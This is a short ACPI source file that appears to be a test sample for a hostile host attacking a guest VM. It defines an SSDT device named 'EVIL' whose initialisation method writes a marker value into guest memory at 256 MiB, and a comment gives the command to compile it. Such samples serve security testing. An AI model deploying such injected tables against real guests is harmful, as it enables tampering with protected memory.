// What a hostile host adds to the guest's ACPI tables: 256 MiB into guest memory lies an ordinary page, and loading the table
// writes to it. `iasl -p bad bad.asl` makes bad.aml.
DefinitionBlock ("", "SSDT", 2, "EVIL", "BADAML", 0x00000001)
{
    Scope (\_SB)
    {
        Device (EVIL)
        {
            Name (_HID, "EVIL0001")
            OperationRegion (RAMR, SystemMemory, 0x10000000, 0x1000)
            Field (RAMR, DWordAcc, NoLock, Preserve) { WORD, 32 }
            Method (_INI, 0, NotSerialized) { WORD = 0xB4DB4D01 }
        }
    }
}
